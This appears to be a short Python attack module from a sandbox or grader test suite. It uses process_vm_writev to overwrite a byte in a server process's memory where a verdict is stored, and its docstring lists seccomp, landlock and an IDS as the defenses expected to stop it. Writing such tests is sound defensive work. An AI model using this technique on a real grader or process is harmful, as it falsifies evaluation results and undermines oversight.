"""Write a byte into the server's memory.

A verdict is a few bytes there.

Stopped by: seccomp, landlock, ids
"""

import ctypes

from calls import called, libc


class Range(ctypes.Structure):
    """A piece of memory."""

    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


def attack(facts):
    buffer = ctypes.create_string_buffer(b"s")
    here, there = Range(ctypes.addressof(buffer), 1), Range(facts["address"], 1)
    called(libc.process_vm_writev(facts["server"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0))
